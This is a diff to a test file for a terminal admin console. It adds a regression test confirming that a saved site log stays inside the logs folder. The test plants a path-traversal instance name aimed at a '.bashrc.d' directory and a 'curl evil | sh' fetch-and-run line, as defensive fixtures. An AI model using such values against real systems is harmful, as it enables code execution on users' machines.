@@ -17,7 +17,7 @@ import pytest
 from textual.widgets import DataTable, Input
 
 from fladmin.client import CommandReply
-from flcore.feed import LogEntry
+from flcore.feed import FeedEvent, LogEntry, Snapshot
 from fldev.poll import wait_for
 from fltui.connection import CONNECTED, DISCONNECTED, Connection
 from fltui.screens.client import ClientScreen
@@ -25,9 +25,10 @@ from fltui.screens.help import HelpScreen
 from fltui.screens.listings import AdminsScreen, AppsScreen, RunScreen, RunsScreen
 from fltui.screens.sitelogs import SiteLogScreen
 from fltui.screens.validation import ValidationScreen
+from fltui.widgets.clients import ClientsTable
 from fltui.widgets.logview import LogView
 from tests.tui.helpers import burst, screen_lines, shown
-from tests.tui.recorded import NOW, RUN_ONE
+from tests.tui.recorded import CLIENTS, LOGS, NOW, RUN, RUN_ONE, SERVER
 from tests.tui.test_console import answers, console, ready
 
 LONG = "epoch 3: " + " ".join(f"loss={i / 10:.2f}" for i in range(40))
@@ -81,6 +82,37 @@ def test_l_shows_one_sites_lines_with_wrap_search_follow_and_save(tmp_path: Path
             )
             await pilot.press("q")
             await wait_for(pilot, lambda: app.screen is app.dashboard)
+
+    asyncio.run(scenario())
+
+
+def test_saving_a_sites_log_stays_in_the_logs_folder_whatever_the_site_is_called(
+    tmp_path: Path,
+) -> None:
+    """The file was named after the instance as the server gave it: ``../`` in it wrote
+    lines of the server's choosing where the admin's shell would run them."""
+    evil = "../../outside/.bashrc.d/pwn"
+    row = replace(CLIENTS[0], instance=evil, client_name=evil)
+    line = LogEntry(NOW - 5, "INFO", "x", "curl evil | sh #", evil)
+    events = [FeedEvent(100, NOW - 130, Snapshot(SERVER, RUN, (*CLIENTS, row), (*LOGS, line)))]
+
+    async def scenario() -> None:
+        app, _ = console(tmp_path, events)
+        async with app.run_test(size=(120, 36)) as pilot:
+            table = app.dashboard.query_one(ClientsTable)
+            await wait_for(pilot, lambda: app.connected and table.row_count == len(CLIENTS) + 1)
+            table.move_cursor(row=table.get_row_index(evil))
+            await pilot.press("l")
+            screen = await shown(pilot, app, SiteLogScreen)
+            await pilot.press("ctrl+s")
+            await wait_for(
+                pilot,
+                lambda: "saved 1 line(s)" in str(screen.query_one("#site-log-status").render()),
+            )
+            (saved,) = (tmp_path / "logs").iterdir()
+            assert saved.name.startswith("_.._outside_.bashrc.d_pwn-")  # no folder in it
+            assert stat.S_IMODE(saved.stat().st_mode) == 0o600
+            assert not (tmp_path.parent / "outside").exists()
 
     asyncio.run(scenario())
 
@@ -310,8 +342,7 @@ def test_metric_names_and_typed_filters_are_text_never_markup(tmp_path: Path) ->
     run = {
         **RUN_ONE,
         "rounds": [
-            {**line, "metrics": dict.fromkeys(odd, 0.5), "sites": {}}
-            for line in RUN_ONE["rounds"]
+            {**line, "metrics": dict.fromkeys(odd, 0.5), "sites": {}} for line in RUN_ONE["rounds"]
         ],
     }
 
